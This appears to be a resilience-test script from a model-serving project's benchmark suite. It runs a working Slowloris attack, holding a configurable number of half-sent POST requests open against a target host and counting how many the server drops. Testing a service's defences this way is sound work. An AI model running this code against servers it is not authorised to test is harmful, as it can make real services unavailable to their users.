"""Slowloris for the abuse run: keeps N connections that each send half a request head and then
one header byte every few seconds, reconnecting whenever the server closes one; runs for
DURATION seconds, then prints how many connections it opened and how many the server closed.

    python3 bench/slowloris.py HOST:PORT [N=200] [DURATION=40]
"""
import socket, sys, time

addr = sys.argv[1]
n = int(sys.argv[2]) if len(sys.argv) > 2 else 200
duration = float(sys.argv[3]) if len(sys.argv) > 3 else 40.0
host, port = addr.rsplit(":", 1)
port = int(port)

def open_one():
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"POST /predict/model_1 HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    s.setblocking(False)
    return s

socks, opened, closed = [], 0, 0
end = time.time() + duration
for _ in range(n):
    socks.append(open_one()); opened += 1
while time.time() < end:
    time.sleep(2)
    for i, s in enumerate(socks):
        try:
            s.send(b"a")
            try:
                if s.recv(1 << 16) == b"":
                    raise ConnectionError
            except BlockingIOError:
                pass
        except (ConnectionError, OSError):
            closed += 1
            s.close()
            try:
                socks[i] = open_one(); opened += 1
            except OSError:
                pass
for s in socks:
    s.close()
print(f"slowloris: {n} connections held for {duration:.0f} s; opened {opened}, closed by the server {closed}")
